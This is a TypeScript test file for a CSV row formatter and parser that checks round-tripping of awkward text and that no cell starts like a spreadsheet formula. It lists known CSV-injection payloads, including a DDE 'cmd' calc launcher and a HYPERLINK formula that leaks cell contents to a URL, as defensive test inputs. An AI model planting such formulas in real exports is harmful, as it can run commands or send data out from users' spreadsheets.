import assert from "node:assert/strict";
import test from "node:test";
import { formatRow, header, type Row } from "./row.ts";
import { parseRows } from "../notebooks/kit/rows/parse_rows.ts";
import { visible } from "./text.ts";
import { randomNumbers, someRow } from "../scripts/dev/testing/processes.ts";

const file = (...lines: string[]) => [header, ...lines].join("\n") + "\n";
const good = formatRow(someRow());

/** Each text column gets a text of what is hard to write into a CSV. */
function awkwardRow(random: () => number): Row {
  const pieces = [
    ..."=+-@\t'\",; \r\nab1",
    "é",
    "漢字",
    "🦕",
    "\r\n",
    '""',
    "\ufeff",
    "\u2028",
    ..."＝＋－＠\u00a0\x00\x1b\x7f\x85\u202e",
  ];
  const text = () =>
    Array.from(
      { length: 4 * random() },
      () => pieces[Math.floor(random() * pieces.length)],
    ).join("");
  const maybe = (value: number) => random() < 0.3 ? undefined : value;
  const seconds = () => maybe(Math.round(random() * 1e9) / 1e6);
  const whole = () => maybe(Math.floor(random() * 1e6));
  return {
    timestamp: new Date(Math.floor(random() * 2e12)),
    url: text(),
    status: whole(),
    elapsed: seconds(),
    error: text(),
    name: text(),
    run: text(),
    id: text(),
    wait: seconds(),
    ttfb: seconds(),
    server: seconds(),
    bytes_out: whole(),
    bytes_in: whole(),
  };
}

test("any row can be read again, its line breaks as spaces and controls as pictures", () => {
  const random = randomNumbers();
  for (let trial = 0; trial < 2000; trial++) {
    const row = awkwardRow(random);
    const line = formatRow(row);
    assert.doesNotMatch(line, /[\r\n]/);
    const expected = Object.entries(row).map(([name, value]) => [
      name,
      typeof value === "string"
        ? visible(value.replace(/[\r\n]+/g, " "))
        : value,
    ]);
    assert.deepEqual(parseRows(file(line)), {
      rows: [Object.fromEntries(expected)],
      problems: [],
    });
  }
});

/** The cells as a spreadsheet finds them, which takes quotes at a start alone. */
function cellsOf(text: string, separators: string): string[] {
  const end = `[^${separators}\\n]*`;
  const cell = RegExp(`"(?:[^"]|"")*(?:"|$)${end}|${end}`, "gy");
  const cells: string[] = [];
  while (cell.lastIndex <= text.length) {
    const [found] = cell.exec(text)!;
    cells.push(found.replace(/^"((?:[^"]|"")*)"?/, (_, quoted) => {
      return quoted.replaceAll('""', '"');
    }));
    cell.lastIndex++;
  }
  return cells;
}

/** Separators where numbers have a point, where they have a comma, and both. */
const dialects = [",", ";", ",;\t"];

function assertNoFormula(rows: Row[]) {
  const text = rows.map(formatRow).join("\n");
  for (const separators of dialects) {
    for (const cell of cellsOf(text, separators)) {
      assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]|^[\t\r]/, separators);
    }
  }
}

test("no cell starts like a formula, whatever separates cells", () => {
  const random = randomNumbers();
  for (let trial = 0; trial < 500; trial++) {
    assertNoFormula(Array.from({ length: 4 }, () => awkwardRow(random)));
  }
});

// Those of https://owasp.org/www-community/attacks/CSV_Injection, and others.
const formulas = [
  ..."=1+1\n+1+1\n-1+1\n@SUM(1)\n＝1+1\n＋1\n－1\n＠SUM(1)".split("\n"),
  ...["\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1"],
  ...[";=1+1", "a;=1+1", 'a";"=1+1', "a; ＝1+1", "'=1+1;=1+2", '=1+2";=1+2'],
  ...["=1+2'\" ;,=1+2", '"=1+1"', '""=1+1', " '=1+1", "%0A=1+1", "a;;-1"],
  ...["=cmd|'/C calc'!A0", '=HYPERLINK("http://a/?"&A1)', "\x00=1+1"],
];

test("no known formula is one, and all are read as they were", () => {
  for (const text of formulas) {
    const row = someRow({ url: text, error: text, name: text, id: text });
    assertNoFormula([row, row]);
    const { rows: [read], problems } = parseRows(file(formatRow(row)));
    assert.deepEqual(problems, []);
    assert.equal(read!.error, visible(text.replace(/[\r\n]+/g, " ")));
    assert.equal(read!.id, read!.error);
  }
});

test("a file from before, with an apostrophe before a tab, is read as it was meant", () => {
  const { rows: [row] } = parseRows(file(good.replace("sync", "'\tsync")));
  assert.equal(row!.name, "\tsync");
});

test("what was not measured is empty, and is never 0", () => {
  const nothing = someRow({ status: undefined, wait: undefined, bytes_in: 0 });
  const { rows: [row] } = parseRows(file(formatRow(nothing)));
  assert.equal(row!.status, undefined);
  assert.equal(row!.wait, undefined);
  assert.equal(row!.bytes_in, 0);
  const { rows, problems } = parseRows(file(good.replace("200", " ")));
  assert.deepEqual(rows.map((row) => row.status), []);
  assert.match(problems[0]!.message, /status/);
});

test("the columns are those of the format, in its order", () => {
  assert.equal(
    header,
    "timestamp,url,status,elapsed,error,name,run,id,wait,ttfb,server," +
      "bytes_out,bytes_in",
  );
});
